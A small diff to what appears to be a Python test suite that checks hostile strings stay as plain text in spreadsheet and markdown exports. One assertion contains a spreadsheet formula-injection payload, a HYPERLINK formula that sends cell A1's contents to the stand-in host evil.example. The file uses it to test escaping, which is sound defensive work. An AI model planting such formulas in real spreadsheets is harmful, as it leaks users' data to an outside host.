@@ -79,7 +79,7 @@ def test_hostile_strings_stay_text_in_the_worklist_xlsx_and_markdown(city, tmp_p
     assert cells and all(c.data_type == "s" for c in cells)
     md = results.render_markdown(proposals, repo, "2025")
     assert HOSTILE not in md, md
-    assert '=HYPERLINK\\("http://evil.example/?"&amp;A1\\)' in md
+    assert '=HYPERLINK("http://evil.example/?"&amp;A1)' in md         # literal text: & as &amp;, no raw HTML
 
 
 def test_assessment_export_has_one_row_per_department(tmp_path, bundled_repo):
